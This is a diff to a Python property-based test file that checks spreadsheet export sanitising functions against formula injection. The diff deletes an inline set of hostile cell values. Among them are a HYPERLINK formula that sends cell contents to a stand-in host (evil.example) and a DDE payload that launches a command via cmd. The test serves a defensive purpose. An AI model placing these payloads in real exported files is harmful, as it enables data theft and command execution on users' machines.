@@ -15,6 +15,7 @@ import pytest
 from hypothesis import HealthCheck, Phase, given, settings, strategies as st
 from openpyxl import Workbook, load_workbook
 
+from attacks import hostile_text as hostile
 from core.output import CUT_MARK, ERROR_CODES, FORMULA_START, MAX_CHARS, safe_filename, safe_text, safe_text_sql
 from dashboards import views
 from modelkit import build
@@ -23,22 +24,6 @@ from reports.workbook import write_workbook
 
 T = dt.datetime
 XML_FORBIDDEN = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff\ud800-\udfff]")
-
-# Text as a hostile or careless export carries it: formula starts (with control characters where
-# Excel would skip them), error codes, DDE payloads, characters XML cannot carry, fields past a
-# cell's size, and anything else Unicode holds (DuckDB's text is UTF-8: no lone surrogates).
-any_char = st.characters(exclude_categories=("Cs",))
-controls = st.sampled_from(["", "\x00", "\x0b", "\x0c", "\x1b", "\x1f", "\ufffe", "\uffff"])
-payloads = st.sampled_from(["=1+1", '=HYPERLINK("http://evil.example/?q="&A1,"单位")', "+1", "-2+3", "@SUM(A1:A9)",
-                            "\t=1", "\r=1", "=cmd|' /C calc'!A0", "#N/A", "#DIV/0!", "'=quoted", "＝全角", "-"])
-hostile = st.one_of(
-    st.tuples(controls, payloads, st.text(any_char, max_size=12)).map("".join),
-    st.tuples(payloads, controls, st.text(any_char, max_size=12)).map("".join),
-    st.text(any_char, min_size=1, max_size=30),
-    st.tuples(st.sampled_from(FORMULA_START + ("汉", "𠮷")), st.integers(MAX_CHARS - 2, MAX_CHARS + 40))
-      .map(lambda t: t[0] * t[1]),
-)
-
 
 def is_live(value) -> bool:
     """What a spreadsheet would evaluate, opening this as a cell's or a CSV field's text."""
